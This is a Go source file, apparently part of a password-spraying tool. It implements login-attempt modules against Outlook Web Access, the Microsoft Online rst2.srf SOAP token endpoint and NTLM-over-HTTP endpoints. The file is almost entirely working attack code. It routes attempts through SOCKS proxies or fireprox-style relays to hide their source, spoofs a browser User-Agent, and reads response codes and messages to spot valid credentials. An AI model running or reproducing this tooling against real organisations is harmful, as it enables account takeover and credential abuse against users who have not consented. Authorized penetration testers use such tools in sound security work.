package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/Azure/go-ntlmssp"
	"github.com/beevik/etree"
	"github.com/fatih/color"
	"golang.org/x/net/proxy"
)

// httpTarget carries the pieces shared by every HTTP-based module: URL
// construction, the SOCKS-aware client, and the scheme switch.
type httpTarget struct {
	host     string
	port     int
	scheme   string
	fireprox string
	client   *http.Client
}

func newHTTPTarget(host string, port int, timeout time.Duration, proxyAddr, fireprox string) (httpTarget, error) {
	t := httpTarget{
		host:     host,
		port:     port,
		scheme:   "https",
		fireprox: fireprox,
	}

	netDialer := &net.Dialer{Timeout: timeout}
	dial := netDialer.DialContext
	if proxyAddr != "" {
		socks, err := proxy.SOCKS5("tcp", proxyAddr, nil, netDialer)
		if err != nil {
			return httpTarget{}, fmt.Errorf("connecting to proxy: %w", err)
		}
		cd, ok := socks.(proxy.ContextDialer)
		if !ok {
			return httpTarget{}, fmt.Errorf("proxy dialer lacks context support")
		}
		dial = cd.DialContext
	}

	// A single client-level timeout would flatten dial errors into an
	// opaque string before they can be classified, so the timeout is split
	// across the phases instead: the dial wrapper bounds the connect and
	// ResponseHeaderTimeout bounds the wait for the server's answer.
	transport := &http.Transport{
		DialContext:           connectBoundedDial(dial, timeout),
		ResponseHeaderTimeout: timeout,
	}
	t.client = &http.Client{
		Transport: transport,
		// Redirect responses carry the signal for form-based modules,
		// follow-ups would overwrite the status code.
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}
	return t, nil
}

// connectBoundedDial bounds the connect phase, proxy handshake included,
// and tags a timeout there as the terminal connect-timeout class while the
// error chain is still intact.
func connectBoundedDial(dial func(ctx context.Context, network, addr string) (net.Conn, error), timeout time.Duration) func(ctx context.Context, network, addr string) (net.Conn, error) {
	return func(ctx context.Context, network, addr string) (net.Conn, error) {
		ctx, cancel := context.WithTimeout(ctx, timeout)
		defer cancel()

		conn, err := dial(ctx, network, addr)
		if err == nil {
			return conn, nil
		}

		var netErr net.Error
		timedOut := errors.As(err, &netErr) && netErr.Timeout()
		if timedOut || errors.Is(err, context.DeadlineExceeded) {
			return nil, fmt.Errorf("connecting to %s: %w", addr, errConnectTimeout)
		}
		return nil, err
	}
}

// SetPlainTransport switches the module from HTTPS to HTTP.
func (t *httpTarget) SetPlainTransport() {
	t.scheme = "http"
}

// URL builds the base URL for the bound host. A fireprox-style relay URL
// takes precedence over the host when configured.
func (t *httpTarget) URL(path string) string {
	if t.fireprox != "" {
		return strings.TrimRight(t.fireprox, "/") + path
	}
	u := url.URL{
		Scheme: t.scheme,
		Host:   fmt.Sprintf("%s:%d", t.host, t.port),
		Path:   path,
	}
	return u.String()
}

func (t *httpTarget) do(req *http.Request) (*Response, []byte, error) {
	req.Header.Set("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
	resp, err := t.client.Do(req)
	if err != nil {
		return nil, nil, classifyNetError(err)
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return nil, nil, classifyNetError(err)
	}

	length := resp.ContentLength
	if length < 0 {
		length = int64(len(body))
	}
	return &Response{
		StatusCode:    resp.StatusCode,
		ContentLength: length,
		Message:       resp.Header.Get("Location"),
	}, body, nil
}

// printHTTPHeader emits the column header for HTTP module attempt output.
func printHTTPHeader() {
	color.New(color.Bold).Printf("%-28s %-28s %-12s %s\n", "Username", "Password", "Code", "Length")
}

// owaTarget sprays an Outlook Web Access form login.
type owaTarget struct {
	httpTarget
}

func newOWATarget(host string, port int, timeout time.Duration, proxyAddr, fireprox string) (Target, error) {
	base, err := newHTTPTarget(host, port, timeout, proxyAddr, fireprox)
	if err != nil {
		return nil, err
	}
	return &owaTarget{httpTarget: base}, nil
}

func (t *owaTarget) Name() string        { return "owa" }
func (t *owaTarget) Description() string { return "Outlook Web Access form login" }

func (t *owaTarget) PrintHeaderBanner() { printHTTPHeader() }

func (t *owaTarget) Login(username, password string) (*Response, error) {
	form := url.Values{}
	form.Set("destination", t.URL("/owa/"))
	form.Set("flags", "4")
	form.Set("forcedownlevel", "0")
	form.Set("username", username)
	form.Set("password", password)
	form.Set("isUtf8", "1")

	req, err := http.NewRequest(http.MethodPost, t.URL("/owa/auth.owa"), strings.NewReader(form.Encode()))
	if err != nil {
		return nil, err
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")

	resp, _, err := t.do(req)
	if err != nil {
		return nil, err
	}

	// Failed form logins bounce back to the login page with a reason
	// code; its absence is worth surfacing but the length analysis makes
	// the final call.
	if loc := resp.Message; loc == "" {
		resp.Message = fmt.Sprintf("HTTP %d", resp.StatusCode)
	}
	return resp, nil
}

// o365Target sprays the Microsoft Online SOAP token endpoint, the same
// one the desktop clients authenticate against.
type o365Target struct {
	httpTarget
}

func newO365Target(host string, port int, timeout time.Duration, proxyAddr, fireprox string) (Target, error) {
	base, err := newHTTPTarget(host, port, timeout, proxyAddr, fireprox)
	if err != nil {
		return nil, err
	}
	return &o365Target{httpTarget: base}, nil
}

func (t *o365Target) Name() string        { return "o365" }
func (t *o365Target) Description() string { return "Microsoft Online (rst2.srf) token endpoint" }

func (t *o365Target) PrintHeaderBanner() { printHTTPHeader() }

const o365RequestEnvelope = `<?xml version="1.0" encoding="UTF-8"?>
<S:Envelope xmlns:S="http://www.w3.org/2003/05/soap-envelope" xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd" xmlns:wsp="http://schemas.xmlsoap.org/ws/2004/09/policy" xmlns:wsu="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd" xmlns:wsa="http://www.w3.org/2005/08/addressing" xmlns:wst="http://schemas.xmlsoap.org/ws/2005/02/trust">
    <S:Header>
    <wsa:Action S:mustUnderstand="1">http://schemas.xmlsoap.org/ws/2005/02/trust/RST/Issue</wsa:Action>
    <wsa:To S:mustUnderstand="1">https://login.microsoftonline.com/rst2.srf</wsa:To>
    <ps:AuthInfo xmlns:ps="http://schemas.microsoft.com/LiveID/SoapServices/v1" Id="PPAuthInfo">
        <ps:BinaryVersion>5</ps:BinaryVersion>
        <ps:HostingApp>Managed IDCRL</ps:HostingApp>
    </ps:AuthInfo>
    <wsse:Security>
    <wsse:UsernameToken wsu:Id="user">
        <wsse:Username>%s</wsse:Username>
        <wsse:Password>%s</wsse:Password>
    </wsse:UsernameToken>
</wsse:Security>
    </S:Header>
    <S:Body>
    <wst:RequestSecurityToken xmlns:wst="http://schemas.xmlsoap.org/ws/2005/02/trust" Id="RST0">
        <wst:RequestType>http://schemas.xmlsoap.org/ws/2005/02/trust/Issue</wst:RequestType>
        <wsp:AppliesTo>
        <wsa:EndpointReference>
            <wsa:Address>online.lync.com</wsa:Address>
        </wsa:EndpointReference>
        </wsp:AppliesTo>
        <wsp:PolicyReference URI="MBI"></wsp:PolicyReference>
    </wst:RequestSecurityToken>
    </S:Body>
</S:Envelope>`

func (t *o365Target) Login(username, password string) (*Response, error) {
	envelope := fmt.Sprintf(o365RequestEnvelope, xmlEscape(username), xmlEscape(password))
	req, err := http.NewRequest(http.MethodPost, t.URL("/rst2.srf"), strings.NewReader(envelope))
	if err != nil {
		return nil, err
	}
	req.Header.Set("Content-Type", "application/soap+xml")

	resp, body, err := t.do(req)
	if err != nil {
		return nil, err
	}

	doc := etree.NewDocument()
	if err := doc.ReadFromBytes(body); err == nil {
		if text := doc.FindElement("//psf:text"); text != nil {
			resp.Message = strings.TrimSpace(text.Text())
		}
	}
	return resp, nil
}

var xmlEscaper = strings.NewReplacer(
	"&", "&amp;",
	"<", "&lt;",
	">", "&gt;",
	`"`, "&quot;",
	"'", "&apos;",
)

func xmlEscape(s string) string {
	return xmlEscaper.Replace(s)
}

// ntlmTarget sprays an NTLM-protected HTTP endpoint. The endpoint path is
// deployment specific, so it must be set before the first attempt.
type ntlmTarget struct {
	httpTarget
	path string
}

func newNTLMTarget(host string, port int, timeout time.Duration, proxyAddr, fireprox string) (Target, error) {
	base, err := newHTTPTarget(host, port, timeout, proxyAddr, fireprox)
	if err != nil {
		return nil, err
	}
	// Wrap the transport so basic credentials are upgraded to an NTLM
	// negotiation on challenge.
	base.client.Transport = ntlmssp.Negotiator{RoundTripper: base.client.Transport}
	return &ntlmTarget{httpTarget: base}, nil
}

func (t *ntlmTarget) Name() string        { return "ntlm" }
func (t *ntlmTarget) Description() string { return "NTLM over HTTP endpoint" }

func (t *ntlmTarget) SetPath(path string) {
	if !strings.HasPrefix(path, "/") {
		path = "/" + path
	}
	t.path = path
}

func (t *ntlmTarget) PrintHeaderBanner() { printHTTPHeader() }

func (t *ntlmTarget) Login(username, password string) (*Response, error) {
	req, err := http.NewRequest(http.MethodGet, t.URL(t.path), nil)
	if err != nil {
		return nil, err
	}
	req.SetBasicAuth(username, password)

	resp, _, err := t.do(req)
	if err != nil {
		return nil, err
	}
	resp.Message = fmt.Sprintf("HTTP %d", resp.StatusCode)
	return resp, nil
}
